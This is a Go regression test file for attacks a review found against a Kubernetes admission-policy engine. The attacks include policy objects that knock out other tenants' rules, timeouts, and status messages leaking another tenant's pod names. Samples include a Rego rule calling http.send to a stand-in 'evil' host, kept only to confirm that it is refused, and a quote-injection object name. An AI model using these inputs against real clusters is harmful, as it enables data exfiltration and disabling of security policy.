package policies

// Regression tests of the attacks a review tried on policy objects: each was a finding, and
// each test fails if its fix is undone.

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

func atkRule(id string) string {
	return "package credgate.admission\n\ndeny contains {\"rule\": \"" + id + "\", \"message\": \"no\"} if true\n"
}

func atkDenies(t *testing.T, e *Engine, rule string) bool {
	t.Helper()
	res, err := e.Evaluate(t.Context(), objectInput(t, "ns", nil))
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range res.Deny {
		if v.Rule == rule {
			return true
		}
	}
	return false
}

// A1: a policy author's broken object whose error text quotes another object's file name
// gets that other (served, healthy) object set aside: it stops being enforced.
func TestAttackBlameByErrorText(t *testing.T) {
	w, logs := newTestWatcher(t, "")
	objs := []Object{{Name: "victim", UID: "v", Generation: 1, Rego: atkRule("victim-rule")}}
	w.Objects = func(context.Context) ([]Object, error) { return slices.Clone(objs), nil }
	if _, err := w.Reload(t.Context()); err != nil {
		t.Fatal(err)
	}
	if !atkDenies(t, w.Engine, "victim-rule") {
		t.Fatal("victim not served")
	}
	// evil: a parse error whose details echo the source line, which names victim's file.
	objs = append(objs, Object{Name: "evil", UID: "e", Generation: 1,
		Rego: "package credgate.admission\n\ndeny contains \"policy/victim.rego\" if {{ \n"})
	_, err := w.Reload(t.Context())
	t.Logf("reload err: %v", err)
	t.Logf("statuses: %+v", w.ObjectStatuses())
	t.Logf("logs: %s", strings.Join(logs.lines, "\n"))
	if !atkDenies(t, w.Engine, "victim-rule") {
		t.Errorf("the healthy, served object victim is no longer enforced after evil was created")
	}
}

// A3: a cluster CredentialPolicy with the name of a CredentialPolicy file of --policy-dir
// fails every revision, silently, and at start the replica is ready without any cluster
// object served.
func TestAttackFileObjectNameCollision(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "x.yaml", "apiVersion: credgate.dev/v1alpha1\nkind: CredentialPolicy\nmetadata: {name: x}\nspec:\n  rego: |\n    package credgate.admission\n    deny contains {\"rule\": \"file-x\", \"message\": \"m\"} if true\n")
	w, logs := newTestWatcher(t, dir) // a fresh replica: Load(dir) serves the directory only
	objs := []Object{
		{Name: "important", UID: "i", Generation: 1, Rego: atkRule("important-rule")},
		{Name: "x", UID: "x", Generation: 1, Rego: atkRule("cluster-x")},
	}
	w.Objects = func(context.Context) ([]Object, error) { return slices.Clone(objs), nil }
	served, err := w.Reload(t.Context())
	t.Logf("served=%v err=%v loaded=%v", served, err, w.Loaded())
	t.Logf("statuses: %+v", w.ObjectStatuses())
	t.Logf("log lines: %d %q", len(logs.lines), logs.lines)
	if w.Loaded() == nil && !atkDenies(t, w.Engine, "important-rule") {
		t.Errorf("ready, yet the unrelated CredentialPolicy 'important' is not enforced")
	}
}

// A3b: same with a whole-revision failure caused by a failure located in a file, not an
// object: e.g. a failure whose location is a --policy-dir helper the object calls.
func TestAttackWholeFailureViaDirHelper(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "helpers.rego", "package team.helpers\n\npick(x) := 1 if x > 0\n\npick(x) := 2 if x > 1\n")
	w, _ := newTestWatcher(t, dir)
	objs := []Object{
		{Name: "important", UID: "i", Generation: 1, Rego: atkRule("important-rule")},
		{Name: "careless", UID: "c", Generation: 1, Rego: "package credgate.admission\n\nimport data.team.helpers\n\ndeny contains {\"rule\": \"c\", \"message\": sprintf(\"%v\", [helpers.pick(5)])} if true\n"},
	}
	w.Objects = func(context.Context) ([]Object, error) { return slices.Clone(objs), nil }
	_, err := w.Reload(t.Context())
	t.Logf("err=%v loaded=%v statuses=%+v", err, w.Loaded(), w.ObjectStatuses())
	if w.Loaded() == nil && !atkDenies(t, w.Engine, "important-rule") {
		t.Errorf("a careless object whose canary error is located in a --policy-dir file keeps every object (here 'important') from being served, and the replica is ready")
	}
}

// A4: an object whose canary times out: Reload returns before setting statuses; the replica
// never becomes ready; every reload compiles and burns the timeout again; other objects'
// changes are blocked.
func TestAttackCanaryTimeout(t *testing.T) {
	w, logs := newTestWatcher(t, "")
	w.Engine.Timeout = 300 * time.Millisecond
	objs := []Object{
		{Name: "good", UID: "g", Generation: 1, Rego: atkRule("good-rule")},
		{Name: "slow", UID: "s", Generation: 1, Rego: "package credgate.admission\n\ndeny contains {\"rule\": \"slow\", \"message\": \"m\"} if {\n\tcount([x | some x in numbers.range(1, 100000000); x % 7 == 0]) < 0\n}\n"},
	}
	w.Objects = func(context.Context) ([]Object, error) { return slices.Clone(objs), nil }
	for i := range 3 {
		start := time.Now()
		_, err := w.Reload(t.Context())
		t.Logf("reload %d took %v err=%v", i, time.Since(start), err)
	}
	t.Logf("Loaded() = %v; statuses = %+v; error log lines = %d", w.Loaded(), w.ObjectStatuses(), len(logs.lines))
	if w.Loaded() != nil {
		t.Errorf("one slow CredentialPolicy keeps the replica from ever becoming ready")
	}
	if atkDenies(t, w.Engine, "good-rule") {
		t.Log("good served")
	} else {
		t.Errorf("the healthy object 'good' is never served while 'slow' exists")
	}
}

// A5: the blame regex matches a --policy-dir file user/policy/x.rego (or user/mypolicy/x.rego)
// and blames the cluster object x.
func TestAttackBlameDirFileName(t *testing.T) {
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, "mypolicy"), 0o755); err != nil {
		t.Fatal(err)
	}
	w, _ := newTestWatcher(t, dir)
	objs := []Object{{Name: "x", UID: "x", Generation: 1, Rego: atkRule("x-rule")}}
	w.Objects = func(context.Context) ([]Object, error) { return slices.Clone(objs), nil }
	if _, err := w.Reload(t.Context()); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(dir, "mypolicy"), "x.rego", "package credgate.admission\n\ndeny contains x if {\n")
	_, err := w.Reload(t.Context())
	st := w.ObjectStatuses()["x"]
	t.Logf("err=%v; status of x: %+v", err, st)
	if st.Reason == "CompileError" {
		t.Errorf("object x is blamed (CompileError) for the file user/mypolicy/x.rego: %q", st.Message)
	}
}

// A7: more than maxFailures distinct failing revisions per reload: the failure memo thrashes
// and every reload recompiles everything.
func TestAttackManyBrokenObjects(t *testing.T) {
	w, logs := newTestWatcher(t, "")
	var objs []Object
	for i := range 66 {
		objs = append(objs, Object{Name: fmt.Sprintf("b%02d", i), UID: fmt.Sprint(i), Generation: 1,
			Rego: "package credgate.admission\n\nlevel := x if { x := 1 }\n\nlevel := x if { x := 2 }\n\ndeny contains level if true\n"})
	}
	w.Objects = func(context.Context) ([]Object, error) { return slices.Clone(objs), nil }
	_, _ = w.Reload(t.Context())
	for _, o := range objs {
		if st := w.ObjectStatuses()[o.Name]; st.Served || st.Reason != "EvaluationError" {
			t.Fatalf("%s: status %+v, want EvaluationError", o.Name, st)
		}
	}
	if err := w.Loaded(); err != nil {
		t.Error(err)
	}
	n := len(logs.lines)
	for range 2 {
		_, _ = w.Reload(t.Context())
	}
	if got := len(logs.lines) - n; got != 0 {
		t.Errorf("reloads with nothing changed logged %d lines (compiled again?): %q", got, logs.lines[n:])
	}
}

// A9: status message of a canary failure carries the namespace/name of another tenant's pod
// (recent input).
func TestAttackStatusLeaksRecentInput(t *testing.T) {
	w, _ := newTestWatcher(t, "")
	w.Objects = func(context.Context) ([]Object, error) { return nil, nil }
	admitSecretPod(t, w)
	// Fails only on the recent input: two values for one namespace.
	objs := []Object{{Name: "p", UID: "p", Generation: 1, Rego: "package credgate.admission\n\nlevel(ns) := 1 if ns == \"team-secret\"\n\nlevel(ns) := 2 if ns == \"team-secret\"\n\ndeny contains {\"rule\": \"r\", \"message\": \"m\"} if level(input.request.namespace) > 5\n"}}
	w.Objects = func(context.Context) ([]Object, error) { return objs, nil }
	_, _ = w.Reload(t.Context())
	st := w.ObjectStatuses()["p"]
	if st.Served || st.Reason != "EvaluationError" || !strings.Contains(st.Message, "on a recent admission") {
		t.Fatalf("status %+v, want it refused on the recent input", st)
	}
	if strings.Contains(st.Message, "team-secret/project-x-train") {
		t.Errorf("status message names another tenant's pod: %q", st.Message)
	}
}

// A10: revision id ambiguity: NUL bytes in object modules let two different contents share a
// revision id; the watcher then never compiles the new generation and reports it served.
func TestAttackRevisionIDAmbiguity(t *testing.T) {
	pre := "package credgate.admission\n\ndeny contains {\"rule\": \"a1\", \"message\": \"m\"} if true\n#"
	bHead := "package credgate.admission\n\ndeny contains {\"rule\": \"b1\", \"message\": \"m\"} if true\n#"
	tail := "tail\n"
	gen1 := []Object{{Name: "a", UID: "a", Generation: 1, Rego: pre}, {Name: "b", UID: "b", Generation: 1, Rego: bHead + "\x00" + ObjectFile("b") + "\x00" + tail}}
	gen2 := []Object{{Name: "a", UID: "a", Generation: 2, Rego: pre + "\x00" + ObjectFile("b") + "\x00" + bHead}, {Name: "b", UID: "b", Generation: 2, Rego: tail}}
	id1, id2 := ObjectsSource(gen1).Revision(), ObjectsSource(gen2).Revision()
	t.Logf("id1=%s id2=%s", id1, id2)
	w, _ := newTestWatcher(t, "")
	objs := gen1
	w.Objects = func(context.Context) ([]Object, error) { return slices.Clone(objs), nil }
	if _, err := w.Reload(t.Context()); err != nil {
		t.Fatalf("gen1 not served: %v", err)
	}
	objs = gen2
	_, err := w.Reload(t.Context())
	t.Logf("gen2 reload err=%v statuses=%+v", err, w.ObjectStatuses())
	if id1 == id2 && w.ObjectStatuses()["b"].Served && w.ObjectStatuses()["b"].Generation == 2 {
		t.Errorf("b generation 2 (which does not even parse) is reported served; gen1 still serves: b1 denies=%v", atkDenies(t, w.Engine, "b1"))
	}
}

// Failed attacks, kept as evidence.

// F2: an object cannot escape its package (ref heads, package spellings), nor redefine
// another object's or the built-in rules.
func TestAttackPackageEscape(t *testing.T) {
	for name, rego := range map[string]string{
		"pkg-builtin":   "package credgate.builtin.static_credentials\n\ndeny contains 1 if true\n",
		"pkg-bracket":   "package credgate[\"admission\"]\n\ndeny := set()\n",
		"pkg-sub":       "package credgate.admission.x\n\ndeny contains 1 if true\n",
		"pkg-object":    "package credgate.object.victim\n\ndeny := set()\n",
		"refhead":       "package credgate.admission\n\nobject.victim.deny := set()\n",
		"refhead-data":  "package credgate.admission\n\ndata.credgate.object.victim.deny := set()\n",
		"with-override": "package credgate.admission\n\ndeny contains 1 if { true } \n\nwarn contains x if { x := data.credgate.object.victim.deny with data.credgate.object.victim.deny as set() }\n",
	} {
		src, err := Merge(Builtin(), ObjectsSource([]Object{{Name: "victim", Rego: atkRule("victim-rule")}, {Name: "evil", Rego: rego}}))
		if err != nil {
			t.Fatal(err)
		}
		rev, err := Compile(t.Context(), src)
		if err != nil {
			t.Logf("%s: refused: %v", name, strings.SplitN(err.Error(), "\n", 2)[0])
			continue
		}
		res, err := rev.Evaluate(t.Context(), objectInput(t, "ns", nil))
		if err != nil {
			t.Logf("%s: eval error %v", name, err)
			continue
		}
		found := false
		for _, v := range res.Deny {
			if v.Rule == "victim-rule" && v.Policy == "victim" {
				found = true
			}
		}
		t.Logf("%s: compiled; victim still denies: %v", name, found)
		if !found {
			t.Errorf("FINDING %s: victim's rule gone", name)
		}
	}
}

// A11: a common Rego idiom (default deny := false) in one object: the query does not type
// check, the error names no file, no object is blamed, every object is frozen, and a fresh
// replica is ready serving none of them.
func TestAttackDefaultFalseFreezesAll(t *testing.T) {
	w, _ := newTestWatcher(t, "")
	objs := []Object{
		{Name: "important", UID: "i", Generation: 1, Rego: atkRule("important-rule")},
		{Name: "careless", UID: "c", Generation: 1, Rego: "package credgate.admission\n\ndefault deny := false\n\ndeny if input.request.userInfo.username == \"mallory\"\n"},
	}
	w.Objects = func(context.Context) ([]Object, error) { return slices.Clone(objs), nil }
	_, err := w.Reload(t.Context())
	t.Logf("err=%v loaded=%v", err, w.Loaded())
	t.Logf("statuses=%+v", w.ObjectStatuses())
	if w.Loaded() == nil && !atkDenies(t, w.Engine, "important-rule") {
		t.Errorf("default deny := false in one object: no object served, replica ready")
	}
}

// A12: a generic runaway rule: what error does the canary give, is it blamed?
func TestAttackRunawayGeneric(t *testing.T) {
	w, _ := newTestWatcher(t, "")
	w.Engine.Timeout = 200 * time.Millisecond
	objs := []Object{
		{Name: "important", UID: "i", Generation: 1, Rego: atkRule("important-rule")},
		{Name: "slow", UID: "s", Generation: 1, Rego: "package credgate.admission\n\nxs := [x | some x in numbers.range(1, 3000)]\n\ndeny contains {\"rule\": \"slow\", \"message\": \"m\"} if {\n\tcount([1 | some a in xs; some b in xs; a + b == -1]) > 0\n}\n"},
	}
	w.Objects = func(context.Context) ([]Object, error) { return slices.Clone(objs), nil }
	for i := range 3 {
		start := time.Now()
		_, err := w.Reload(t.Context())
		t.Logf("reload %d took %v err=%v loaded=%v", i, time.Since(start), err, w.Loaded())
	}
	t.Logf("statuses=%+v", w.ObjectStatuses())
	if !atkDenies(t, w.Engine, "important-rule") {
		t.Errorf("runaway object blocks all")
	}
}

// A13: a tenant plants a value in the recent inputs; a careless object's conflict error quotes
// it, which names the victim object's file: the victim is set aside.
func TestAttackTenantValueInConflictError(t *testing.T) {
	w, logs := newTestWatcher(t, "")
	objs := []Object{{Name: "victim", UID: "v", Generation: 1, Rego: atkRule("victim-rule")}}
	w.Objects = func(context.Context) ([]Object, error) { return slices.Clone(objs), nil }
	if _, err := w.Reload(t.Context()); err != nil {
		t.Fatal(err)
	}
	// The tenant's innocuous pod, admitted (no violation of victim's... victim denies all here,
	// which does not matter: the evaluation succeeded, so the input is kept).
	in := &Input{Operation: "CREATE", Namespace: "tenant", Name: "innocuous", Version: "v1", Kind: "Pod",
		Object: []byte(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"innocuous","labels":{"owner":"me"},"annotations":{"owner":"policy/victim.rego"}},"spec":{"containers":[{"name":"c","image":"i"}]}}`)}
	v, _ := in.Value()
	if _, err := w.Engine.Evaluate(t.Context(), v); err != nil {
		t.Fatal(err)
	}
	// A platform engineer adds a careless policy.
	objs = append(objs, Object{Name: "careless", UID: "c", Generation: 1, Rego: `package credgate.admission

owner := input.object.metadata.annotations.owner

owner := input.object.metadata.labels.owner

deny contains {"rule": "no-owner", "message": "set an owner"} if not owner
`})
	_, err := w.Reload(t.Context())
	t.Logf("err=%v statuses=%+v", err, w.ObjectStatuses())
	_ = logs
	if !atkDenies(t, w.Engine, "victim-rule") {
		t.Errorf("the tenant's planted value got victim set aside: no longer enforced")
	}
}

// A9b: a whole-revision failure's message, copied into every object's status, names a
// tenant's pod (recent input).
func TestAttackWholeStatusLeaksRecentInput(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "helpers.rego", "package team.helpers\n\npick(ns) := {1} if ns == \"team-secret\"\n\npick(ns) := {2} if ns == \"team-secret\"\n\npick(ns) := {3} if ns != \"team-secret\"\n")
	w, _ := newTestWatcher(t, dir)
	w.Objects = func(context.Context) ([]Object, error) { return nil, nil }
	admitSecretPod(t, w)
	objs := []Object{{Name: "p", UID: "p", Generation: 1, Rego: "package credgate.admission\n\nimport data.team.helpers\n\ndeny contains x if { some x in helpers.pick(input.request.namespace); x > 5 }\n"}}
	w.Objects = func(context.Context) ([]Object, error) { return objs, nil }
	_, _ = w.Reload(t.Context())
	st := w.ObjectStatuses()["p"]
	if st.Served || st.Reason != "EvaluationError" {
		t.Fatalf("status %+v, want it refused on the recent input", st)
	}
	if strings.Contains(st.Message, "team-secret/project-x-train") {
		t.Errorf("status message names another tenant's pod: %q", st.Message)
	}
}

// A13b: the failure is remembered by revision id: the knocked-out victim stays out after the
// tenant's input is gone.
func TestAttackTenantKnockoutPersists(t *testing.T) {
	w, _ := newTestWatcher(t, "")
	objs := []Object{{Name: "victim", UID: "v", Generation: 1, Rego: atkRule("victim-rule")}}
	w.Objects = func(context.Context) ([]Object, error) { return slices.Clone(objs), nil }
	_, _ = w.Reload(t.Context())
	in := &Input{Operation: "CREATE", Namespace: "tenant", Name: "innocuous", Version: "v1", Kind: "Pod",
		Object: []byte(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"innocuous","labels":{"owner":"me"},"annotations":{"owner":"policy/victim.rego"}},"spec":{"containers":[{"name":"c","image":"i"}]}}`)}
	v, _ := in.Value()
	_, _ = w.Engine.Evaluate(t.Context(), v)
	objs = append(objs, Object{Name: "careless", UID: "c", Generation: 1, Rego: "package credgate.admission\n\nowner := input.object.metadata.annotations.owner\n\nowner := input.object.metadata.labels.owner\n\ndeny contains {\"rule\": \"no-owner\", \"message\": \"set an owner\"} if not owner\n"})
	_, _ = w.Reload(t.Context())
	w.Engine.recent = recentInputs{} // the tenant's input is gone
	for range 3 {
		_, _ = w.Reload(t.Context())
	}
	t.Logf("recent inputs now: %d; victim status %+v", len(w.Engine.RecentInputs()), w.ObjectStatuses()["victim"])
	if !atkDenies(t, w.Engine, "victim-rule") {
		t.Errorf("victim stays out after the planted input is gone (failure memoized by revision id)")
	}
}

func TestAttackMisc(t *testing.T) {
	// Forbidden built-in functions are refused in an object as in a file.
	src, _ := Merge(Builtin(), ObjectsSource([]Object{{Name: "exfil", Rego: "package credgate.admission\n\ndeny contains x if { x := http.send({\"method\": \"get\", \"url\": \"http://evil\"}) }\n"}}))
	if _, err := Compile(t.Context(), src); err == nil || !strings.Contains(objectMessage(err, "exfil"), "http.send") {
		t.Errorf("an object calling http.send: %v, want it refused, naming http.send", err)
	}
	// Deep nesting is refused by the parser's depth limit, not a stack overflow.
	deep := "package credgate.admission\n\nx := " + strings.Repeat("[", 200000) + "\n"
	src, _ = Merge(Builtin(), ObjectsSource([]Object{{Name: "deep", Rego: deep}}))
	if _, err := Compile(t.Context(), src); err == nil {
		t.Error("an object nested 200,000 deep compiled")
	}
	// x and x.rego are different objects: the error of one is not the other's.
	src, _ = Merge(Builtin(), ObjectsSource([]Object{{Name: "x", Rego: atkRule("x")}, {Name: "x.rego", Rego: "package credgate.admission\n\ndeny contains y if { z == 1 }\n"}}))
	_, err := Compile(t.Context(), src)
	if msg := objectMessage(err, "x"); msg != notLocated {
		t.Errorf("x is given x.rego's error: %q", msg)
	}
	if msg := objectMessage(err, "x.rego"); !strings.Contains(msg, "line 3:") {
		t.Errorf("x.rego's error: %q, want its line", msg)
	}
	// A name with quotes cannot reach the generated query: it is quoted.
	src, _ = Merge(Builtin(), ObjectsSource([]Object{{Name: "a\"] ; deny := [1]; x := [\"", Rego: atkRule("q")}}))
	rev, err := Compile(t.Context(), src)
	if err != nil {
		t.Fatalf("a quoted name: %v", err)
	}
	res, err := rev.Evaluate(t.Context(), objectInput(t, "ns", nil))
	if err != nil || len(res.Deny) != 1 || res.Deny[0].Rule != "q" {
		t.Errorf("a quoted name: deny %+v, %v; want its one violation, nothing injected", res.Deny, err)
	}
}

// admitSecretPod has w's engine admit a pod project-x-train of namespace team-secret, which
// the canary then evaluates as a recent input.
func admitSecretPod(t *testing.T, w *Watcher) {
	t.Helper()
	in := &Input{Operation: "CREATE", Namespace: "team-secret", Name: "project-x-train", Version: "v1", Kind: "Pod",
		Object: []byte(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"project-x-train"},"spec":{"containers":[{"name":"c","image":"i"}]}}`)}
	v, err := in.Value()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Engine.Evaluate(t.Context(), v); err != nil {
		t.Fatal(err)
	}
}
